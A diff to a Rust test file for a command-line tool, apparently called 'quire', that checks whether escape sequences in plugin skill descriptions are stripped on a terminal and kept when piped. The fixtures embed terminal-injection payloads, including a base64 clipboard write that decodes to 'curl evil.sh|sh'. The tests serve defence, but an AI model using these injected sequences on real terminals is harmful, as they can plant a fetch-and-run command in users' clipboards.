@@ -7,6 +7,7 @@ use serde_json::json;
 use crate::support::model_server::{Reply, Step};
 use crate::support::pty::Pty;
 use crate::support::quire::TestEnv;
+use crate::support::skills_common::{SkillsEnv, write_skill};
 
 const HOSTILE: &str = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\x1b[2J\x1b]8;;https://evil\x1b\\";
 
@@ -59,4 +60,36 @@ fn stderr_lines_are_clean_when_output_is_piped() {
     assert_eq!(run.code, 0, "{}", run.stderr);
     assert!(run.stderr.contains("exit 3"), "{}", run.stderr);
     assert_inert(&run.stderr);
+}
+
+/// The listing commands print what repositories and plugins wrote
+/// (descriptions, bodies): on a terminal without the sequences, to a pipe
+/// as written.
+#[test]
+fn skills_show_on_a_terminal_drops_the_sequences_of_a_description() {
+    let e = SkillsEnv::new();
+    write_skill(
+        &e.repo.join(".agents/skills/evil"),
+        "evil",
+        "\"looks fine\\e]52;c;ZXZpbA==\\a then\\e[2J clears\"",
+        "",
+        "body",
+    );
+    let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_quire"));
+    cmd.args(["skills", "show", "evil"])
+        .current_dir(&e.repo)
+        .env("QUIRE_HOME", &e.home)
+        .env("HOME", &e.user);
+    let mut pty = Pty::spawn(cmd, 24, 200);
+    assert_eq!(pty.wait_exit(), 0);
+    let shown = pty.output();
+    assert!(shown.contains("looks fine then clears"), "{shown:?}");
+    assert_inert(&shown);
+
+    let piped = e.run(&["skills", "show", "evil"]);
+    assert!(
+        piped.stdout.contains("looks fine\x1b]52;"),
+        "a pipe gets the text as written: {:?}",
+        piped.stdout
+    );
 }
